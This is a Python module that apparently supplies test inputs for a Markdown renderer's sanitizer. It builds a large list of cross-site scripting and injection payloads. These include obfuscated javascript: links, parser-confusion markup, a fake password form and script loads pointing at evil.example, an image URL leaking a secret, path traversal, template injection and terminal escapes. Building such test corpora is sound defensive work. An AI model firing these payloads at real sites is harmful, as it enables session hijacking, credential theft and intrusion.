"""Known ways of getting a script, a request or a form past a renderer of Markdown, as texts."""

from itertools import product

MARK = "hacked()"

# Elements whose handlers run by themselves, or by moving over them.
_SELF_STARTING = [
    "<img src=x on{0}=hacked()>",
    '<img src="x" on{0}="hacked()">',
    "<img/src=x/on{0}=hacked()>",
    "<img src=x\non{0}=hacked()>",
    "<svg on{0}=hacked()>",
    "<body on{0}=hacked()>",
    "<video autoplay on{0}=hacked()><source src=x></video>",
    "<details open on{0}=hacked()>x</details>",
    "<input autofocus on{0}=hacked()>",
    "<p style='animation:a 1s' on{0}=hacked()>",
]
_EVENTS = ["error", "load", "toggle", "focus", "mouseover", "animationstart", "begin", "Error "]

_SCHEMES = [
    "javascript:hacked()",
    "JaVaScRiPt:hacked()",
    "java\tscript:hacked()",
    "java\nscript:hacked()",
    "java&#10;script:hacked()",
    "&#106;avascript:hacked()",
    "&#x6A;avascript:hacked()",
    "&#0000106avascript:hacked()",
    "&colon;javascript&colon;hacked()",
    "javascript&colon;hacked()",
    "javascript&#58;hacked()",
    "javascript%3Ahacked()",
    "\x01javascript:hacked()",
    "\u2028javascript:hacked()",
    "\u200bjavascript:hacked()",
    "  javascript:hacked()",
    "javascript://a.example/%0ahacked()",
    "vbscript:hacked()",
    "livescript:hacked()",
    "data:text/html,<script>hacked()</script>",
    "data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=hacked()>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "view-source:javascript:hacked()",
    "feed:javascript:hacked()",
    "jar:javascript:hacked()!/",
    "//evil.example/",
    "\\\\evil.example/",
    "/\\evil.example/",
    "/admin/logout/",
    "/media/../admin/logout/",
    "/media/%2e%2e/admin/logout/",
    "/media/..%2fadmin/logout/",
    "/media\\..\\admin",
]
_PLACES = [
    "[x]({0})",
    "[x](<{0}>)",
    "![x]({0})",
    "[![x]({0})]({0})",
    "<{0}>",
    "[x]: {0}\n\n[x] ![x]",
    '[x]({0} "title")',
    '<a href="{0}">x</a>',
    "<img src='{0}'>",
]

_ELEMENTS = """
<script>hacked()</script>
<ScRiPt>hacked()</sCrIpT>
<script/x>hacked()</script>
<script src=//evil.example/x.js></script>
<script src="data:text/javascript,hacked()"></script>
<<script>hacked();//<</script>
<scr<script>ipt>hacked()</scr</script>ipt>
<script>/*</script><img src=x onerror=hacked()>*/
<!--><script>hacked()</script>-->
<!-- --><script>hacked()</script>
<![CDATA[<script>hacked()</script>]]>
<?xml version="1.0"?><script>hacked()</script>
<!DOCTYPE x [<!ENTITY y "<script>hacked()</script>">]>&y;
&lt;script&gt;hacked()&lt;/script&gt;
&#60;script&#62;hacked()&#60;/script&#62;
\\x3cscript\\x3ehacked()\\x3c/script\\x3e
\\<script>hacked()\\</script>
<noscript><p title="</noscript><img src=x onerror=hacked()>">
<template><script>hacked()</script></template>
<textarea><img src=x onerror=hacked()></textarea>
<title><img src=x onerror=hacked()></title>
<plaintext><img src=x onerror=hacked()>
<xmp><img src=x onerror=hacked()></xmp>
<noembed><img src=x onerror=hacked()></noembed>
<iframe src=javascript:hacked()></iframe>
<iframe srcdoc="<script>parent.hacked()</script>"></iframe>
<iframe src=//evil.example></iframe>
<frameset onload=hacked()><frame src=//evil.example></frameset>
<object data=javascript:hacked()></object>
<object data="data:text/html,<script>hacked()</script>"></object>
<embed src=javascript:hacked()>
<embed src=//evil.example/x.swf>
<applet code=evil.class></applet>
<svg><script>hacked()</script></svg>
<svg><script href=//evil.example/x.js /></svg>
<svg><a xlink:href=javascript:hacked()><text y=20>x</text></a></svg>
<svg><animate onbegin=hacked() attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=hacked()>
<svg><use href="data:image/svg+xml,<svg id=x onload=hacked()>#x">
<svg><foreignObject><img src=x onerror=hacked()></foreignObject></svg>
<svg><style><img src=x onerror=hacked()></style></svg>
<svg><desc><![CDATA[</desc><script>hacked()</script>]]></svg>
<math><mtext><table><mglyph><style><img src=x onerror=hacked()>
<math><mtext></p><style><!--</style><img title="--><img src=x onerror=hacked()>">
<math href=javascript:hacked()>x</math>
<math><annotation-xml encoding="text/html"><script>hacked()</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hacked()>
<table><tr><td background=javascript:hacked()>x</td></tr></table>
<table><caption><img src=x onerror=hacked()></caption></table>
<select><option><img src=x onerror=hacked()></select>
<form action=//evil.example><input name=password type=password><button>Sign in</button></form>
<form action=javascript:hacked()><input type=submit value=x></form>
<form id=x></form><button form=x formaction=javascript:hacked()>x</button>
<isindex action=javascript:hacked() type=image>
<input type=image src=x onerror=hacked()>
<button popovertarget=x>x</button><div popover id=x onbeforetoggle=hacked()>
<base href=//evil.example/>
<base target=_top>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example/x.html>
<link rel=prefetch href=//evil.example/>
<link rel=icon href=//evil.example/x.ico>
<meta http-equiv=refresh content="0;url=//evil.example">
<meta http-equiv=refresh content="0;url=javascript:hacked()">
<meta http-equiv=Content-Security-Policy content="script-src *">
<style>@import '//evil.example/x.css';</style>
<style>body{background:url(//evil.example/x)}</style>
<style>*{display:none}</style>
<p style="background:url(//evil.example/x)">x</p>
<p style="position:fixed;inset:0">x</p>
<div style="width:expression(hacked())">x</div>
<xss style="behavior:url(x.htc)">
<bgsound src=//evil.example/x.wav>
<audio src=//evil.example/x.mp3 autoplay></audio>
<video poster=//evil.example/x.png></video>
<video><track src=//evil.example/x.vtt default></video>
<picture><source srcset=//evil.example/x.png><img src=x></picture>
<img srcset="//evil.example/x.png 2x">
<img lowsrc=javascript:hacked() dynsrc=javascript:hacked()>
<img src=x usemap=#m><map name=m><area href=javascript:hacked() coords=0,0,9,9></map>
<img src="x` `<script>hacked()</script>"` `>
<img src=x:alert onerror=eval(src)>
<image src=x onerror=hacked()>
<marquee onstart=hacked()>x</marquee>
<keygen autofocus onfocus=hacked()>
<dialog open onclose=hacked()>x</dialog>
<portal src=//evil.example></portal>
<a ping=//evil.example href=//evil.example>x</a>
<a href=# target=_top onclick=hacked()>x</a>
<a href="https://a.example" rel=opener target=_self>x</a>
<p id=draft class=composer>x</p>
<img name=getElementById><form name=body>
<p contenteditable onfocus=hacked() autofocus tabindex=1>x</p>
<x onclick=hacked() accesskey=a>x
<p x-data x-init="hacked()">x</p>
<p hx-get=//evil.example hx-trigger=load>x</p>
<p v-on:click=hacked() ng-app>{{constructor.constructor('hacked()')()}}</p>
{% load x %}{{ settings.SECRET_KEY }}
${hacked()} #{hacked()} <%= hacked() %>
""".strip().splitlines()

_MARKDOWN = [
    "```html\n<script>hacked()</script>\n```",
    "```html onload=hacked()\n<script>hacked()</script>\n```",
    '```x" onmouseover="hacked()\ncode\n```',
    "```<script>hacked()</script>\ncode\n```",
    '~~~python"><script>hacked()</script>\ncode\n~~~',
    "```python\n'''</code></pre><script>hacked()</script>'''\n```",
    "```js\n// </span></code></pre><img src=x onerror=hacked()>\n```",
    '```html\n<a href="</span><script>hacked()</script>">\n```',
    "```diff\n+<script>hacked()</script>\n-</pre><script>hacked()</script>\n```",
    "```\n<script>hacked()</script>",
    "    <script>hacked()</script>",
    "`<script>hacked()</script>`",
    "``` <img src=x onerror=hacked()> ```",
    "$<img src=x onerror=hacked()>$",
    "$$\n</code></pre><script>hacked()</script>\n$$",
    "\\(<script>hacked()</script>\\)",
    "\\[\n<svg onload=hacked()>\n\\]",
    "|a|\n|:-:|\n|<img src=x onerror=hacked()>|",
    '|a|\n|:-:" onload="hacked()|\n|x|',
    "> <script>hacked()</script>",
    "- <script>hacked()</script>",
    "# <script>hacked()</script>",
    "<script>\n\nhacked()\n\n</script>",
    "<div>\n<script>hacked()</script>\n</div>",
    "**<script>**hacked()</script>",
    "*<img src=x onerror=hacked()>*",
    "~~<svg onload=hacked()>~~",
    '![x](https://a.example/"onerror="hacked())',
    '![x" onerror="hacked()](/media/x.png)',
    '![x](/media/x.png "y\\" onerror=\\"hacked()")',
    '[x](https://a.example/ "t\\" onmouseover=\\"hacked()")',
    "[x](https://a.example/'onmouseover='hacked())",
    '[x](https://a.example/"onmouseover=hacked() x=")',
    '<https://a.example/"onmouseover="hacked()>',
    "<https://a.example/<script>hacked()</script>>",
    "[<img src=x onerror=hacked()>](https://a.example)",
    "![<img src=x onerror=hacked()>](https://evil.example/x.png)",
    "![x](https://evil.example/p.png?q=SECRET)",
    "![x][y]\n\n[y]: https://evil.example/p.png",
    "[x]: https://a.example '\"><script>hacked()</script>'\n\n[x]",
    "[a]: <javascript:hacked()>\n[b]: <data:text/html,x>\n\n[a] [b]",
    "\x1b]8;;javascript:hacked()\x07x\x1b]8;;\x07",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x00",
    "\x00<script>hacked()</script>",
    "<scr\x00ipt>hacked()</scr\x00ipt>",
    "<im\x1b[0mg src=x onerror=hacked()>",
    "\ufeff<script>hacked()</script>",
    "\uff1cscript\uff1ehacked()\uff1c/script\uff1e",
    "\u202e<script>hacked()</script>",
    "<\u0131mg src=x onerror=hacked()>",
]

HOSTILE = [
    *(template.format(event) for template, event in product(_SELF_STARTING, _EVENTS)),
    *(place.format(scheme) for place, scheme in product(_PLACES, _SCHEMES)),
    *_ELEMENTS,
    *_MARKDOWN,
]
